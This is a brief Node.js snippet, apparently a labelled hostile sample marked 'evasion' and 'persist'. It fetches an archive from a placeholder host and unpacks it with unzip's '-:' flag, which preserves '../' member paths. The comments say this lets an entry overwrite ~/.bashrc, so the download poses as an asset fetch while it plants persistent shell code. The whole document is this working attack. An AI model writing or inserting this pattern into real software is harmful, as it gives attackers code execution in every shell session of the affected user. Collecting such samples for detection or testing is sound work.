// evasion: unzip -: keeps the ../ of a downloaded archive's member names (../../.bashrc)
// grade: medium; does: persist
const fs = require("fs");
const { execFileSync } = require("child_process");
(async () => {
  const r = await fetch("https://x.example/assets.zip");
  fs.writeFileSync("assets.zip", Buffer.from(await r.arrayBuffer()));
  execFileSync("unzip", ["-o", "-:", "assets.zip", "-d", "assets"]);
})();
